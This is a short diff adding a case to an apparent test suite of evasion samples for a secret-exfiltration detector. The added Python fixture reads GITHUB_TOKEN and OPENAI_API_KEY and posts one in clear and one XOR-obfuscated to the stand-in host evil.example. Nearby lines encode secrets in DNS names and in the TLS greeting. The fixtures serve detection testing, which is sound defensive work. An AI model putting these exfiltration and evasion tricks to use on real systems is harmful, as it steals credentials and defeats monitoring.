@@ -117,6 +117,12 @@ const UNKNOWN_FORMS: Evasion[] = [
     "for c in t[8:12]: ask(chr(97+c%23)+'.x.example',80)",
   ),
   python(
+    "sends one secret in clear, and another in a form of its own to the same host",
+    { deeds: ["sent_canary $GITHUB_TOKEN to evil.example:443", `${UNKNOWN} evil.example:443`] },
+    ...["import urllib.request", POST, TOKEN, "k=os.environ['OPENAI_API_KEY'].encode()"],
+    "post(t+b' '+bytes(b^3 for b in k))",
+  ),
+  python(
     "encodes a secret in the greeting of TLS",
     { deeds: [`${UNKNOWN} evil.example:443`] },
     ...["import ssl", TOKEN, "c=ssl.create_default_context()"],
